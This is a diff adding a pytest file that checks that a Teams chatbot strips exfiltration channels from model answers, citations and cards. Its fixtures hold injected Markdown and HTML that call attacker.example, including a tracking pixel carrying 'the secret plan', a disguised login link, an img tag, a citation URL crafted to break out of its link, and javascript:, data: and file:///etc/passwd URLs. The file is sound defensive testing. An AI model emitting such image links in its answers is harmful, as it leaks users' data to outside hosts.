@@ -1,0 +1,101 @@
+"""Model and source text cannot exfiltrate (issue 19 item 9): images from hosts not allowed are dropped, links
+to them are shown as text with the URL in plain sight, citation URLs are checked and encoded, in personal-chat
+text, streamed text and cards."""
+
+from __future__ import annotations
+
+import json
+import re
+
+import pytest
+
+import bot.teams_text as teams_text
+from bot.replier import _safe_card
+from bot.teams_text import no_exfiltration, safe_url, teams_message_text
+from services.backends import Citation
+from tests.conftest import ScriptedBackend
+
+PIXEL = "https://attacker.example/pixel.png?d=the+secret+plan"
+INJECTED = (
+    f'Here is the answer.\n\n![status]({PIXEL}) and ![x](<{PIXEL}> "t")\n'
+    'Read [the policy](https://attacker.example/login?u=alex) or <img src="https://attacker.example/i.png">.\n\n'
+    "[r]: https://attacker.example/ref.png\n"
+)
+HOSTILE_SOURCE = "https://kb.example/doc)![x](https://attacker.example/p.png?d=1"
+
+
+def _rendered_images_and_links(text: str) -> list[str]:
+    """The URLs Teams would fetch or link from Markdown/HTML in `text` (outside code spans)."""
+    outside_code = re.sub(r"`[^`]*`", "", text)
+    found = re.findall(r"!\[[^\]]*\]\(\s*<?([^)\s>]+)", outside_code)
+    found += re.findall(r"(?<!!)\[[^\]]*\]\(\s*<?([^)\s>]+)", outside_code)
+    found += re.findall(r"<(?:img|a)\b[^>]*?(?:src|href)=\"?([^\"\s>]+)", outside_code, re.I)
+    return found
+
+
+@pytest.fixture(autouse=True)
+def _no_hosts_allowed():
+    teams_text.set_content_hosts(())
+    yield
+    teams_text.set_content_hosts(())
+
+
+def test_images_are_dropped_links_shown_and_html_inert():
+    text = no_exfiltration(INJECTED)
+    assert "attacker.example" in text  # the link's URL is visible...
+    assert _rendered_images_and_links(text) == []  # ...but nothing is fetched or disguised
+    assert "pixel.png" not in text and "the policy (`https://attacker.example/login?u=alex`)" in text
+    assert "&lt;img" in text
+
+
+def test_an_allowed_host_keeps_its_images_and_links():
+    teams_text.set_content_hosts(["*.contoso.example"])
+    text = no_exfiltration("![chart](https://cdn.contoso.example/c.png) [doc](https://www.contoso.example/d)")
+    assert text == "![chart](https://cdn.contoso.example/c.png) [doc](https://www.contoso.example/d)"
+    assert _rendered_images_and_links(no_exfiltration("![a](https://contoso.example.attacker.example/a.png)")) == []
+
+
+@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "//x.example/a", ""])
+def test_citation_urls_must_be_http(url):
+    assert safe_url(url) == ""
+
+
+def test_a_citation_url_cannot_break_out_of_its_link():
+    encoded = safe_url(HOSTILE_SOURCE)
+    assert "(" not in encoded and ")" not in encoded and "[" not in encoded and "!" not in encoded
+    assert encoded.startswith("https://kb.example/doc%29%21%5Bx%5D%28https://attacker.example/")
+
+
+def test_card_images_from_other_hosts_are_dropped_and_drawn_charts_kept():
+    card = {"type": "AdaptiveCard", "body": [
+        {"type": "Image", "url": PIXEL}, {"type": "Image", "url": "data:image/png;base64,iVBORw0KGgo="},
+        {"type": "TextBlock", "text": f"see ![s]({PIXEL})"},
+        {"type": "Container", "backgroundImage": {"url": PIXEL}, "items": []},
+    ]}  # fmt: skip
+    safe = _safe_card(card)
+    assert "attacker.example" not in json.dumps(safe)
+    assert [e["type"] for e in safe["body"]] == ["Image", "TextBlock", "Container"]
+
+
+@pytest.mark.parametrize("shape", ["personal", "groupChat"])  # streamed text and a card; plain text messages
+async def test_an_injected_answer_reaches_teams_without_images_or_disguised_links(start_bot, shape):
+    citation = Citation(number=1, source="Policy", title="Policy", url=HOSTILE_SOURCE, excerpt=f"![p]({PIXEL})")
+    bot = await start_bot(backend=ScriptedBackend(text=INJECTED + " [1]", citations=[citation]))
+    channel = bot.channel(shape)
+    assert (await bot.post(channel.message("what is the travel policy?"))).status == 200
+    await bot.settle()
+    sent = [json.dumps(call.body) for call in bot.connector.calls]
+    assert sent
+    for body in sent:
+        data = json.loads(body)
+        texts = [data.get("text") or ""]
+        texts += [e.get("text", "") for a in data.get("attachments", []) for e in a.get("content", {}).get("body", [])]
+        for text in texts:
+            urls = _rendered_images_and_links(text)
+            assert all(u.startswith("https://kb.example/") and "(" not in u for u in urls), (urls, text)
+        assert "pixel.png" not in body
+
+
+def test_personal_chat_text_is_defanged_outside_code_only():
+    text = teams_message_text(f"![s]({PIXEL})\n\n```\n![s]({PIXEL})\n```\n")
+    assert text.count("pixel.png") == 1 and text.index("pixel.png") > text.index("```")
